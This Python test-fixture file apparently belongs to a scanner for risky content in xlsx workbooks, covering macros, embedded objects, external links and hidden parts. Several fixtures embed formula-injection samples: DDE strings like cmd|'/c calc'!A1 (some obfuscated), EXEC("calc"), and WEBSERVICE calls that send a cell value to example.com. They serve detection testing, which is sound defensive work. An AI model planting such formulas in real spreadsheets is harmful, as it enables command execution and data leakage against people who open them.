"""Fixtures of what rides along in a workbook: told by its type, not its name; what programs add is silent."""

from __future__ import annotations

import zipfile

from tests.conftest import rewrite
from tests.intake.books import MAIN, REL
from tests.spots import at, with_cells
from tests.trust.fixture import Case, Fixture, Found
from tests.trust.structure import Make

MICROSOFT = "http://schemas.microsoft.com/office"
BOOK, SHEET = "xl/workbook.xml", "xl/worksheets/sheet1.xml"
DRAWING = "http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"
VML = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="urn:schemas-microsoft-com:office:excel"'
PERSONS = f'<personList xmlns="{MICROSOFT}/spreadsheetml/2018/threadedcomments"/>'
EMPTY = f'<xdr:wsDr xmlns:xdr="{DRAWING}"/>'


def shape(inside: str) -> str:
    """Return a drawing with one shape."""
    return f'<xdr:wsDr xmlns:xdr="{DRAWING}"><xdr:twoCellAnchor>{inside}</xdr:twoCellAnchor></xdr:wsDr>'


def attach(kind: str, part: str, data: str = "x", owner: str = SHEET, outside: str = "", name: str = "rider") -> Make:
    """Return a change that adds a part, or something outside, by a relationship of this type."""
    folder, _slash, file = owner.rpartition("/")
    relations = f"{folder}/_rels/{file}.rels" if owner else "_rels/.rels"

    def make(case: Case) -> None:
        with zipfile.ZipFile(case.path) as container:
            there = relations in container.namelist()
        mode = ' TargetMode="External"' if outside else ""
        target = outside or f"/{part}"
        one = f'<Relationship Id="{name}" Type="{kind}" Target="{target}"{mode}/>'
        uri = "http://schemas.openxmlformats.org/package/2006/relationships"
        if there:
            rewrite(
                case.path, {relations: lambda old: old.replace(b"</Relationships>", f"{one}</Relationships>".encode())}
            )
        with zipfile.ZipFile(case.path, "a") as container:
            if not there:
                container.writestr(relations, f'<Relationships xmlns="{uri}">{one}</Relationships>')
            if not outside and part not in container.namelist():
                container.writestr(part, data)

    return make


def loose(part: str, content: str = "", data: str = "x") -> Make:
    """Return a change that adds a part which nothing refers to, with a type of content where one is given."""

    def make(case: Case) -> None:
        if content:
            override = f'<Override PartName="/{part}" ContentType="{content}"/></Types>'
            rewrite(case.path, {r"\[Content_Types\]\.xml": lambda old: old.replace(b"</Types>", override.encode())})
        with zipfile.ZipFile(case.path, "a") as container:
            container.writestr(part, data)

    return make


NEWER_RICH = ("2020/07/relationships/rdRichValueWebImage", "2022/10/relationships/richValueRel")
RICH = f"{MICROSOFT}/2017/06/relationships/rdRichValue"
REACHING = "formulas that reach out of the workbook"


def named(formula: str) -> Make:
    """Return a change that adds a name for a formula."""
    one = f'<definedNames><definedName name="a">{formula}</definedName>'
    return lambda case: case.xml(lambda xml: xml.replace("<definedNames>", one, 1), BOOK)


def in_sheet(before: str, inside: str = "") -> Make:
    """Return a change that adds something before, or among, the data validations of the scorecard."""

    def change(xml: str) -> str:
        begin, end, rest = xml.partition("<dataValidations")
        attributes, closing, others = rest.partition(">")
        return begin + with_cells(before) + end + attributes + closing + inside + others

    return lambda case: case.xml(change)


def threaded(text: str, plain: str | None = None) -> Make:
    """Return a change that adds a comment with its thread, and the ordinary one that repeats it for older programs."""
    uri = "http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments"
    cell = at("total")
    thread = (
        f'<ThreadedComments xmlns="{uri}"><threadedComment ref="{cell}" id="a"><text>{text}</text></threadedComment>'
    )
    old = (f'<comments xmlns="{MAIN}"><authors><author>tc=a</author></authors><commentList><comment ref="{cell}" '
           f'authorId="0"><text><t>{plain}</t></text></comment></commentList></comments>')  # fmt: skip
    with_thread = attach(f"{MICROSOFT}/2017/10/relationships/threadedComment", "xl/threadedComments/t.xml",
                         f"{thread}</ThreadedComments>")  # fmt: skip
    with_plain = attach(f"{REL}/comments", "xl/comments9.xml", old, name="plain")
    return lambda case: (with_thread(case), with_plain(case) if plain is not None else None)


def told(name: str, title: str, found: str, make: Make) -> Fixture:
    """Return a fixture of content that is named and not run."""
    return Fixture(name, title, "W", (Found("content-not-run", None, found),), make)


def seen(name: str, title: str, found: str, make: Make) -> Fixture:
    """Return a fixture of something that can be seen on a sheet."""
    return Fixture(name, title, "W", (Found("picture-found", None, found),), make)


def silent(name: str, title: str, make: Make) -> Fixture:
    """Return a fixture of what programs add when they save."""
    return Fixture(name, title, "A", (), make)


TOLD = (
    told("macros", "macros", "macros",
         attach(f"{MICROSOFT}/2006/relationships/vbaProject", "xl/vbaProject.bin", owner=BOOK)),
    told("macros-renamed", "macros in a part of another name", "macros",
         attach(f"{MICROSOFT}/2006/relationships/vbaProject", "xl/data.bin", owner=BOOK)),
    told("macros-of-onlyoffice", "macros of ONLYOFFICE", "macros",
         attach("http://schemas.onlyoffice.com/jsaProject", "xl/jsaProject.bin", owner=BOOK)),
    told("macro-sheet", "an old macro sheet that no sheet lists", "macros",
         attach(f"{MICROSOFT}/2006/relationships/xlIntlMacrosheet", "xl/i.xml", owner=BOOK)),
    told("embedded-object", "an embedded object", "embedded objects",
         attach(f"{REL}/oleObject", "xl/embeddings/oleObject1.bin")),
    told("embedded-object-renamed", "an embedded object in a part of another name", "embedded objects",
         attach(f"{REL}/package", "xl/o/1.bin")),
    told("active-x", "an ActiveX control", "embedded objects", attach(f"{REL}/control", "xl/activeX/activeX1.xml")),
    told("form-control", "a form control", "form controls", attach(f"{REL}/ctrlProp", "xl/ctrlProps/ctrlProp1.xml")),
    told("form-control-in-old-drawing", "a button in an old drawing", "form controls",
         attach(f"{REL}/vmlDrawing", "xl/d.vml", f'<xml {VML}><x:ClientData ObjectType="Button"/></xml>')),
    told("form-control-spelled", "a button in an old drawing, its kind written in another way", "form controls",
         attach(f"{REL}/vmlDrawing", "xl/d.vml", f'<xml {VML}><x:ClientData ObjectType="&#66;utton"/></xml>')),
    told("external-link", "a link to another workbook", "links to other workbooks",
         attach(f"{REL}/externalLink", "xl/externalLinks/externalLink1.xml", owner=BOOK)),
    told("external-link-renamed", "a link to another workbook in a part of another name", "links to other workbooks",
         attach(f"{REL}/externalLink", "xl/theme/theme9.xml", owner=BOOK)),
    told("connection", "a connection to data", "connections to data",
         attach(f"{REL}/connections", "xl/connections.xml", owner=BOOK)),
    told("query-table", "a query", "connections to data", attach(f"{REL}/queryTable", "xl/q.xml")),
    told("real-time-data", "data that other programs feed in", "connections to data",
         attach(f"{REL}/volatileDependencies", "xl/v.xml", owner=BOOK)),
    told("pivot-table", "a pivot table", "pivot tables", attach(f"{REL}/pivotTable", "xl/p.xml")),
    told("ribbon", "buttons of an add-in", "code or panes of add-ins",
         attach(f"{MICROSOFT}/2006/relationships/ui/extensibility", "customUI/customUI.xml", owner="")),
    told("add-in-pane", "a pane of an add-in", "code or panes of add-ins",
         attach(f"{MICROSOFT}/2011/relationships/webextensiontaskpanes", "xl/webextensions/taskpanes.xml", owner="")),
    told("custom-xml", "custom XML of an unknown kind", "custom XML data",
         attach(f"{REL}/customXml", "customXml/item1.xml", '<a xmlns="urn:anything"/>', owner=BOOK)),
    told("links-long-path", "the long path of a link to another workbook", "links to other workbooks",
         attach(f"{MICROSOFT}/2019/04/relationships/externalLinkLongPath", "", owner=BOOK, outside="file:///x.xlsx")),
    told("theme-outside", "a theme that lies elsewhere", "content of a kind of its own",
         attach(f"{REL}/theme", "", owner=BOOK, outside="http://example.com/theme.xml")),
    told("comments-outside", "comments that lie elsewhere", "content of a kind of its own",
         attach(f"{REL}/comments", "", outside="http://example.com/comments.xml")),
    told("loose-program", "a program among the properties", "parts that nothing refers to", loose("docProps/run.exe")),
    told("name-reaches-out", "a name that asks a server", REACHING,
         named("WEBSERVICE(&quot;http://example.com&quot;)")),
    told("name-starts-program", "a name that starts a program", REACHING, named("EXEC(&quot;calc&quot;)")),
    told("dde", "a name with a link of the old kind", REACHING, named("cmd|'/c calc'!A1")),
    *(told(f"dde-{number}", f"a name with a link of the old kind, {where}", REACHING, named(formula))
      for number, (where, formula) in enumerate((
          ("behind a text", "&quot;a&quot;&amp;cmd|'/c calc'!A1"), ("far behind", 35 * "1+" + "cmd|'/c calc'!A1"),
          ("of a long topic", f"cmd|'/c calc {210 * 'x'}'!A1"), ("with a quoted topic", "cmd|'/c &quot;y&quot;'!A1"),
          ("its beginning quoted", "'cmd'|'/c calc'!A1")))),
    told("dde-rule", "a conditional format with a link of the old kind", REACHING,
         in_sheet('<conditionalFormatting sqref="{total}"><cfRule type="expression" priority="90"><formula>'
                  'IF("a"="a",cmd|\'/c calc\'!A1)</formula></cfRule></conditionalFormatting>')),
    told("dde-validation", "a data validation with a link of the old kind", REACHING,
         in_sheet("", f'<dataValidation type="custom" sqref="L40"><formula1>{35 * "1+"}cmd|\'/c calc\'!A1</formula1>'
                      "</dataValidation>")),
    *(told(f"add-in-{number}", f"a name with a function of an add-in: {function}", REACHING,
           named(f"{function}(&quot;x&quot;)")) for number, function in enumerate(("_xll.ASK", "_xldudf_ASK"))),
    told("rule-reaches-out", "a conditional format that asks a server", REACHING,
         in_sheet('<conditionalFormatting sqref="{ability.rating}"><cfRule type="expression" priority="90"><formula>'
                  'WEBSERVICE("http://example.com/"&amp;{ability.rating})="1"</formula></cfRule></conditionalFormatting>')),
    told("validation-reaches-out", "a data validation that asks a server", REACHING,
         in_sheet("", '<dataValidation type="custom" sqref="L40"><formula1>_xlfn.WEBSERVICE("http://example.com")="1"'
                      "</formula1></dataValidation>")),
    *(told(f"name-reaches-out-{number}", f"a name with the function {function}", REACHING,
           named(f"{function}(&quot;x&quot;)"))
      for number, function in enumerate(("DDE", "SQL.REQUEST", "CUBEVALUE", "_xlfn.STOCKHISTORY", "_xlfn.TRANSLATE",
                                         "_xlfn._xlws.PY", "IMPORTXML", "_xlfn.IMPORTCSV"))),
    told("web-publishing", "a workbook that is written to a web page at every saving", "content of a kind of its own",
         lambda case: case.xml(lambda xml: xml.replace("</workbook>", '<webPublishObjects count="1"><webPublishObject '
                               'id="1" divId="x" destinationFile="x.htm"/></webPublishObjects></workbook>'), BOOK)),
    told("thumbnail-program", "a program as a thumbnail", "content of a kind of its own",
         attach("http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail",
                "docProps/thumbnail.exe", owner="")),
    told("package-inside", "a workbook inside, as what begins one", "embedded objects",
         attach(f"{REL}/officeDocument", "xl/embeddings/a.xlsx")),
    told("loose-relations", "relationships of nothing", "parts that nothing refers to", loose("xl/payload.rels")),
    told("loose-relations-owner", "relationships of a part that is not there", "parts that nothing refers to",
         loose("xl/_rels/payload.xml.rels")),
    told("loose-folder", "a folder that has content", "parts that nothing refers to", loose("xl/payload/")),
    told("rich-values", "values of a kind of its own, shown by a cell", "content of a kind of its own",
         lambda case: (attach(RICH, "xl/richData/rdrichvalue.xml", owner=BOOK)(case),
                       case.xml(lambda xml: xml.replace(f'<c r="{at("total")}"', f'<c r="{at("total")}" vm="1"')))),
    Fixture("rich-pictures", "a picture that a cell shows as its value", "W",
            (Found("content-not-run", None, "content of a kind of its own"),
             Found("picture-found", None, "image1.png")),
            lambda case: (attach(f"{MICROSOFT}/{NEWER_RICH[1]}", "xl/richData/a.xml", owner=BOOK)(case),
                          attach(f"{REL}/image", "xl/media/image1.png", owner="xl/richData/a.xml")(case),
                          case.xml(lambda xml: xml.replace(f'<c r="{at("total")}"', f'<c r="{at("total")}" vm="1"')))),
    told("unknown-kind", "a relationship of an unknown type", "content of a kind of its own",
         attach("http://example.com/relationships/theme", "xl/theme/theme8.xml", owner=BOOK)),
    told("loose-part", "a part that nothing refers to", "parts that nothing refers to", loose("xl/media/image9.png")),
    told("loose-sheet", "a sheet that no workbook lists", "parts that nothing refers to",
         loose("xl/worksheets/sheet9.xml")),
)  # fmt: skip
SPARKLINE = (
    '<extLst><ext uri="a"><x14:sparklineGroups '
    'xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"><x14:sparklineGroup><x14:sparklines>'
    "<x14:sparkline/></x14:sparklines></x14:sparklineGroup></x14:sparklineGroups></ext></extLst></worksheet>"
)
SEEN = (
    seen("picture", "a picture added", "image1.png", attach(f"{REL}/image", "xl/media/image1.png")),
    seen("picture-renamed", "a picture in a part of another name", "a.xml", attach(f"{REL}/image", "xl/theme/a.xml")),
    seen("picture-outside", "a picture that lies elsewhere", "a.png",
         attach(f"{REL}/image", "", outside="http://example.com/a.png")),
    seen("picture-of-theme-outside", "a picture of a theme that lies elsewhere", "a.png",
         attach(f"{REL}/image", "", owner="xl/theme/theme1.xml", outside="http://example.com/a.png")),
    seen("picture-of-theme-shown", "a picture of a theme that a sheet has too", "image1.jpeg",
         lambda case: (attach(f"{REL}/image", "xl/media/image1.jpeg", owner="xl/theme/theme1.xml")(case),
                       attach(f"{REL}/image", "xl/media/image1.jpeg")(case))),
    seen("text-box", "a text box", "a text box",
         attach(f"{REL}/drawing", "xl/drawings/drawing1.xml", shape("<xdr:sp/>"))),
    seen("text-box-renamed", "a text box in a part of another name", "a text box",
         attach(f"{REL}/drawing", "xl/shapes/a.xml", shape("<xdr:sp/>"))),
    seen("shapes-grouped", "grouped shapes", "a group of shapes",
         attach(f"{REL}/drawing", "xl/drawings/drawing1.xml", shape("<xdr:grpSp/>"))),
    seen("sparkline", "a small chart in a cell", "a small chart in a cell",
         lambda case: case.xml(lambda xml: xml.replace("</worksheet>", SPARKLINE))),
    seen("word-art", "an ornamental text in the drawing of a comment", "a drawing",
         attach(f"{REL}/vmlDrawing", "xl/d.vml",
                f'<xml {VML}><v:shape id="a"><v:textpath string="总分 91"/><x:ClientData ObjectType="Note"/>'
                "</v:shape></xml>")),
    seen("old-drawing-prefix", "a shape in an old drawing, under a name of its own", "a drawing",
         attach(f"{REL}/vmlDrawing", "xl/d.vml", '<xml xmlns:q-1="urn:schemas-microsoft-com:vml"><q-1:rect/></xml>')),
    seen("old-drawing-remark", "a shape in an old drawing beside a remark about notes", "a drawing",
         attach(f"{REL}/vmlDrawing", "xl/d.vml", f'<xml {VML}><!-- ObjectType="Note" --><v:rect id="a"/></xml>')),
    seen("old-drawing-arc", "an arc in an old drawing", "a drawing",
         attach(f"{REL}/vmlDrawing", "xl/d.vml", f'<xml {VML}><v:arc id="a"/></xml>')),
    seen("old-drawing-broken", "an old drawing that is broken", "a drawing",
         attach(f"{REL}/vmlDrawing", "xl/d.vml", f"<xml {VML}><v:rect>")),
    seen("old-drawing", "a shape in an old drawing", "a drawing",
         attach(f"{REL}/vmlDrawing", "xl/d.vml", f'<xml {VML}><v:rect id="a"/></xml>')),
)  # fmt: skip
SILENT = (
    silent("empty-drawing", "an empty drawing, as Google saves it",
           attach(f"{REL}/drawing", "xl/drawings/drawing1.xml", EMPTY)),
    silent("printer-settings", "settings of a printer", attach(f"{REL}/printerSettings", "xl/p.bin")),
    silent("calculation-chain", "a calculation chain",
           attach(f"{REL}/calcChain", "xl/calcChain.xml", f'<calcChain xmlns="{MAIN}"/>', BOOK)),
    silent("thumbnail", "a thumbnail",
           attach("http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail",
                  "docProps/thumbnail.jpeg", owner="")),
    silent("persons", "the persons of Excel's comments",
           attach(f"{MICROSOFT}/2017/10/relationships/person", "xl/persons/person.xml", PERSONS, BOOK)),
    silent("custom-xml-of-sharepoint", "custom XML of SharePoint",
           attach(f"{REL}/customXml", "customXml/item1.xml",
                  '<a xmlns="http://schemas.microsoft.com/sharepoint/v3/contenttype/forms"/>', owner=BOOK)),
    silent("custom-xml-of-wps", "custom XML of WPS",
           attach(f"{REL}/customXml", "customXml/item1.xml", '<a xmlns="https://web.wps.cn/et/2018/main"/>',
                  owner=BOOK)),
    silent("notes-drawing", "the old drawing of comments",
           attach(f"{REL}/vmlDrawing", "xl/d.vml",
                  f'<xml {VML}><v:shape id="a"><x:ClientData ObjectType="Note"/></v:shape></xml>')),
    silent("notes-drawing-breaks", "the old drawing of comments, with a line break as Excel writes it",
           attach(f"{REL}/vmlDrawing", "xl/d.vml",
                  f'<xml {VML}><v:shapetype id="_x0000_t202"/><v:shape id="a"><v:textbox><div><br></div></v:textbox>'
                  '<x:ClientData ObjectType="Note"/></v:shape></xml>')),
    silent("sensitivity-label", "a sensitivity label of Microsoft 365",
           attach(f"{MICROSOFT}/2020/02/relationships/classificationlabels", "docMetadata/LabelInfo.xml",
                  f'<clbl:labelList xmlns:clbl="{MICROSOFT}/2020/mipLabelMetadata"/>', "")),
    silent("signature-origin", "the origin of digital signatures",
           attach("http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin",
                  "_xmlsignatures/origin.sigs", owner="")),
    silent("rich-values-left", "values of a kind of its own that no cell shows",
           attach(RICH, "xl/richData/rdrichvalue.xml", owner=BOOK)),
    silent("custom-xml-of-labels", "custom XML of a program that labels files",
           attach(f"{REL}/customXml", "customXml/item1.xml",
                  '<sisl xmlns="http://www.boldonjames.com/2008/01/sie/internal/label"/>', owner=BOOK)),
    silent("theme-picture", "a picture behind a theme",
           attach(f"{REL}/image", "xl/media/image1.jpeg", owner="xl/theme/theme1.xml")),
    silent("custom-xml-of-documents", "custom XML of a program that keeps documents",
           attach(f"{REL}/customXml", "customXml/item1.xml",
                  '<properties xmlns="http://www.imanage.com/work/xmlschema"/>', owner=BOOK)),
    *(silent(f"rich-values-left-{number}", f"values of a newer kind that no cell shows: {kind.rpartition('/')[2]}",
             attach(f"{MICROSOFT}/{kind}", "xl/richData/a.xml", owner=BOOK))
      for number, kind in enumerate(NEWER_RICH)),
    silent("rich-pictures-left", "a picture of a value that no cell shows",
           lambda case: (attach(f"{MICROSOFT}/{NEWER_RICH[1]}", "xl/richData/a.xml", owner=BOOK)(case),
                         attach(f"{REL}/image", "xl/media/image1.png", owner="xl/richData/a.xml")(case))),
    silent("folder", "a folder without content", loose("xl/media/", data="")),
    silent("honest-name-translates", "a name for a cell, called like a function",
           named(with_cells("考核表!{total}+COUNTIF(考核表!{total},1)"))),
    silent("honest-name", "a name for a formula of its own workbook",
           named(with_cells("SUM(考核表!{callback_rate:score}:{ability:score})"))),
    silent("honest-bar", "a name whose texts have bars",
           named(with_cells("COUNTIF(考核表!{total},&quot;a|b!c&quot;)+COUNTIF(考核表!{total},&quot;|&quot;)"))),
    silent("honest-rule", "a conditional format with a formula",
           in_sheet('<conditionalFormatting sqref="{ability.rating}"><cfRule type="expression" priority="90"><formula>'
                    '{ability.rating}&gt;5</formula></cfRule></conditionalFormatting>')),
    silent("google-metadata", "what Google keeps for itself",
           attach("http://customschemas.google.com/relationships/workbookmetadata", "metadata", owner=BOOK)),
)  # fmt: skip

THREADS = (
    Fixture("thread", "a comment of the newer kind alone", "W", (Found("comment-found", "total", "总分 91"),),
            threaded("总分 91")),
    Fixture("thread-differs", "a comment that says something else to older programs", "W",
            (Found("comment-found", "total", "总分 91"), Found("comment-found", "total", "请核对")),
            threaded("总分 91", "请核对")),
    Fixture("thread-repeated", "a comment of the newer kind that older programs show too, told once", "W",
            (Found("comment-found", "total", "[Threaded comment] 请核对"),),
            threaded("请核对", "[Threaded comment] 请核对")),
)  # fmt: skip

RIDERS: tuple[Fixture, ...] = (*TOLD, *SEEN, *THREADS, *SILENT)
